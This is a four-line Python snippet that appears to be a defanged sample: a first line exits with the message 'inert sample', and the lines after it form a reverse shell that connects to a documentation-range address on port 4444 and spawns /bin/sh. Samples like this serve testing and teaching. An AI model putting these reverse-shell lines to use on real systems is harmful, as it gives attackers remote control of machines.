raise SystemExit("inert sample")
s = socket.socket(); s.connect(("192.0.2.71", 4444))
os.dup2(s.fileno(), 0)
pty.spawn("/bin/sh")
